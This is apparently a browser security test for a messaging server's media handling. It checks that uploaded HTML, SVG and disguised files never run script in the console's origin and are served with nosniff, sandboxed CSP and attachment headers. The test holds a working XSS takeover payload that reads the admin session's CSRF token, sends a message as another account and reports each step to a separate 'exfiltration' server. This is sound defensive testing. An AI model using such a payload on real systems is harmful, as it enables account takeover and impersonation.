// The attack of issue 20 in a real browser, on each storage engine: an API user of account A uploads
// HTML and SVG whose script reads the console's session, lists account B's messages and sends one as
// B; the administrator, signed in to the console, opens the file's URL. Media must never run in
// Pigeon's origin: the same script, run in the console's page through DevTools, does take B over
// (so the script works and reaches the receiver), while opened as media it never runs.
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import type { Browser, BrowserContext } from 'playwright-core';
import { launchBrowser } from '../helpers/browser.js';
import { ACCOUNT_A, ACCOUNT_B, AUTH_A, AUTH_B, RECIPIENT } from '../helpers/fixtures.js';
import { ADMIN_TOKEN, BACKENDS, startPigeon, type TestPigeon } from '../helpers/pigeon.js';

const WAIT = { timeout: 15_000 };

/** Where the script reports what it managed to do: another origin, as an attacker's server would be. */
class Exfiltration {
  readonly paths: string[] = [];
  private server: Server | undefined;
  private waiters: Array<() => void> = [];

  async start(): Promise<this> {
    this.server = createServer((req, res) => {
      this.paths.push(req.url ?? '');
      for (const wake of this.waiters.splice(0)) wake();
      res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
    });
    await new Promise<void>((resolve) => this.server?.listen(0, '127.0.0.1', resolve));
    return this;
  }

  get url(): string {
    return `http://127.0.0.1:${(this.server?.address() as AddressInfo).port}`;
  }

  async waitFor(path: string): Promise<void> {
    while (!this.paths.includes(path)) await new Promise<void>((resolve) => this.waiters.push(resolve));
  }

  stop(): Promise<void> {
    return new Promise((resolve) => this.server?.close(() => resolve()));
  }
}

/** The attacker's script: marks the page, then goes for the session, B's messages, and a message sent as B. */
function takeover(receiver: string, label: string): string {
  return `(async () => {
    window.__pwned = true;
    const report = (what) => fetch(${JSON.stringify(receiver)} + '/' + ${JSON.stringify(label)} + '/' + what, { method: 'POST', mode: 'no-cors' });
    await report('ran');
    const session = await (await fetch('/console/api/session')).json();
    await report('session-' + (typeof session.csrf === 'string'));
    const list = await fetch('/console/api/accounts/${ACCOUNT_B.id}/messages');
    await report('listed-' + list.status);
    const sent = await fetch('/console/api/accounts/${ACCOUNT_B.id}/messages', {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-pigeon-csrf': session.csrf },
      body: JSON.stringify({ applicationId: '${ACCOUNT_B.applicationId}', from: '${ACCOUNT_B.number}', to: ['${RECIPIENT}'], text: 'sent by ${label}' }),
    });
    await report('sent-' + sent.status);
  })()`;
}

for (const backend of BACKENDS) {
  describe(`media never runs in Pigeon's origin (${backend})`, () => {
    let pigeon: TestPigeon;
    let receiver: Exfiltration;
    let browser: Browser;
    let admin: BrowserContext;

    const upload = async (name: string, contentType: string, body: string) => {
      const res = await pigeon.fetch(`/api/v2/users/${ACCOUNT_A.id}/media/${name}`, {
        method: 'PUT',
        headers: { authorization: AUTH_A, 'content-type': contentType },
        body,
      });
      assert.equal(res.status, 204, await res.text());
    };
    /** Texts of account B's messages, through the API as B. */
    const textsOfB = async (): Promise<string[]> => {
      const res = await pigeon.fetch(`/api/v2/users/${ACCOUNT_B.id}/messages?messageDirection=OUTBOUND`, { headers: { authorization: AUTH_B } });
      assert.equal(res.status, 200);
      const { messages } = (await res.json()) as { messages: Array<{ messageId: string }> };
      const texts = [];
      for (const m of messages) texts.push((await pigeon.admin<{ message: { text?: string } }>('GET', `/messages/${m.messageId}`)).message.text ?? '');
      return texts;
    };

    const signedInAdmin = async (opening: Promise<BrowserContext>) => {
      const context = await opening;
      const page = await context.newPage();
      await page.goto(`${pigeon.url}/`);
      await page.getByLabel('Admin token').fill(ADMIN_TOKEN);
      await page.getByRole('button', { name: 'Sign in as administrator' }).click();
      await page.getByRole('heading', { name: 'Messages', level: 1 }).waitFor(WAIT);
      await page.close();
      return context;
    };

    before(async () => {
      receiver = await new Exfiltration().start();
      pigeon = await startPigeon({ backend });
      browser = await launchBrowser();
      admin = await signedInAdmin(browser.newContext());

      const script = (label: string) => takeover(receiver.url, label);
      await upload('evil.html', 'text/html', `<!doctype html><title>evil</title><script>${script('html')}</script>`);
      await upload('evil.svg', 'image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg"><script>${script('svg')}</script></svg>`);
      // A file that claims to be an image but is HTML: shown inline, and must still not run.
      await upload('evil.png', 'image/png', `<!doctype html><script>${script('png')}</script>`);
      await upload('evil.xml', 'application/xhtml+xml', `<html xmlns="http://www.w3.org/1999/xhtml"><script>${script('xhtml')}</script></html>`);
    });
    after(async () => {
      await browser?.close();
      await pigeon?.close();
      await receiver?.stop();
    });

    it('the script takes account B over when it does run in Pigeon’s origin without a policy (the control)', async () => {
      // What media was before the fix: a document of Pigeon's origin under no Content-Security-Policy,
      // here the console's page with its policy bypassed, in an administrator's browser of its own.
      const context = await signedInAdmin(browser.newContext({ bypassCSP: true }));
      const page = await context.newPage();
      await page.goto(`${pigeon.url}/console/messages`);
      await page.evaluate(takeover(receiver.url, 'control'));
      await receiver.waitFor('/control/sent-202');
      assert.deepEqual(receiver.paths, ['/control/ran', '/control/session-true', '/control/listed-200', '/control/sent-202']);
      assert.ok((await textsOfB()).includes('sent by control'));
      await context.close();
    });

    // The API's URL with A's credentials in it (a link the attacker sends), and the console's own media route.
    const urls = (name: string): Array<[string, string]> => {
      const withCredentials = pigeon.url.replace('://', `://${ACCOUNT_A.username}:${ACCOUNT_A.password}@`);
      return [
        ['the API', `${withCredentials}/api/v2/users/${ACCOUNT_A.id}/media/${name}`],
        ['the console', `${pigeon.url}/console/api/accounts/${ACCOUNT_A.id}/media/${name}`],
      ];
    };

    for (const name of ['evil.html', 'evil.svg', 'evil.xml']) {
      it(`${name} opened by the administrator is a download, and nothing in it runs`, async () => {
        for (const [where, url] of urls(name)) {
          const page = await admin.newPage();
          const download = page.waitForEvent('download', WAIT);
          // A navigation that turns into a download has no document: goto rejects.
          await page.goto(url).catch(() => undefined);
          assert.equal((await download).suggestedFilename(), name, where);
          assert.equal(await page.evaluate('window.__pwned'), undefined, where);
          await page.close();
        }
      });
    }

    it('a file of a passive type is shown inline, sandboxed: HTML inside it does not run', async () => {
      for (const [where, url] of urls('evil.png')) {
        const page = await admin.newPage();
        const response = await page.goto(url, { waitUntil: 'load' });
        assert.equal(response?.status(), 200, where);
        // Scripts of a document run before its load event; the marker is set first thing.
        assert.equal(await page.evaluate('window.__pwned'), undefined, where);
        await page.close();
      }
    });

    it('nothing reached the receiver and no message was sent as B from the media', async () => {
      assert.deepEqual(
        receiver.paths.filter((p) => !p.startsWith('/control/')),
        [],
      );
      const texts = await textsOfB();
      for (const label of ['html', 'svg', 'png', 'xhtml']) assert.ok(!texts.includes(`sent by ${label}`), label);
    });

    it('serves media with nosniff and a CSP without script, and active or unknown types as attachments', async () => {
      const cases: Array<[string, string, 'inline' | 'attachment']> = [
        ['text/html', 'a.html', 'attachment'],
        ['TEXT/HTML; charset=utf-8', 'b.html', 'attachment'],
        ['image/svg+xml', 'c.svg', 'attachment'],
        ['application/xhtml+xml', 'd.xhtml', 'attachment'],
        ['text/xml', 'e.xml', 'attachment'],
        ['application/xml', 'f.xml', 'attachment'],
        ['application/javascript', 'g.js', 'attachment'],
        ['text/javascript', 'h.js', 'attachment'],
        ['application/octet-stream', 'i.bin', 'attachment'],
        ['application/x-unknown-thing', 'j.bin', 'attachment'],
        ['multipart/x-mixed-replace', 'k.bin', 'attachment'],
        ['image/png', 'l.png', 'inline'],
        ['Image/JPEG; x=1', 'm.jpg', 'inline'],
        ['image/gif', 'n.gif', 'inline'],
        ['audio/mpeg', 'o.mp3', 'inline'],
        ['video/mp4', 'p.mp4', 'inline'],
        ['application/pdf', 'q.pdf', 'inline'],
        ['text/plain; charset=utf-8', 'r.txt', 'inline'],
      ];
      for (const [type, name, disposition] of cases) {
        await upload(`headers/${name}`, type, '<script>alert(1)</script>');
        const api = await pigeon.fetch(`/api/v2/users/${ACCOUNT_A.id}/media/headers/${name}`, { headers: { authorization: AUTH_A } });
        const consoleAnswer = await admin.request.get(`${pigeon.url}/console/api/accounts/${ACCOUNT_A.id}/media/headers/${name}`);
        for (const [where, status, headers] of [
          ['API', api.status, Object.fromEntries(api.headers)],
          ['console', consoleAnswer.status(), consoleAnswer.headers()],
        ] as const) {
          assert.equal(status, 200, `${where} ${type}`);
          assert.equal(headers['content-type'], type, `${where} ${type}: the stored type`);
          assert.equal(headers['x-content-type-options'], 'nosniff', `${where} ${type}`);
          assert.match(headers['content-security-policy'] ?? '', /(^|; )sandbox(;|$)/, `${where} ${type}`);
          assert.match(headers['content-security-policy'] ?? '', /default-src 'none'/, `${where} ${type}`);
          assert.equal(headers['content-disposition'], disposition, `${where} ${type}`);
        }
      }
    });

    it('gives the console and the API nosniff, no referrer and no framing', async () => {
      const answers: Array<[string, Response]> = [
        ['console page', await pigeon.fetch('/', { headers: { accept: 'text/html' } })],
        ['console asset', await pigeon.fetch('/console/assets/app.js')],
        ['console API', await pigeon.fetch('/console/api/session')],
        ['API list', await pigeon.fetch(`/api/v2/users/${ACCOUNT_A.id}/messages`, { headers: { authorization: AUTH_A } })],
        ['API 401', await pigeon.fetch(`/api/v2/users/${ACCOUNT_A.id}/messages`)],
        ['API 404', await pigeon.fetch('/api/v2/nothing-here')],
        ['admin API', await pigeon.fetch('/admin/v1/simulator/rules', { headers: { authorization: `Bearer ${ADMIN_TOKEN}` } })],
        ['health', await pigeon.fetch('/healthz')],
      ];
      for (const [where, res] of answers) {
        assert.equal(res.headers.get('x-content-type-options'), 'nosniff', where);
        assert.equal(res.headers.get('referrer-policy'), 'no-referrer', where);
        assert.equal(res.headers.get('x-frame-options'), 'DENY', where);
        assert.match(res.headers.get('content-security-policy') ?? '', /frame-ancestors 'none'/, where);
      }
      // Only the console's page may run script, and only its own.
      assert.match(answers[0]?.[1].headers.get('content-security-policy') ?? '', /script-src 'self'/);
      assert.match(answers[0]?.[1].headers.get('content-security-policy') ?? '', /img-src 'self';/);
      for (const [where, res] of answers.slice(1)) assert.match(res.headers.get('content-security-policy') ?? '', /default-src 'none'.*sandbox/, where);
    });
  });
}
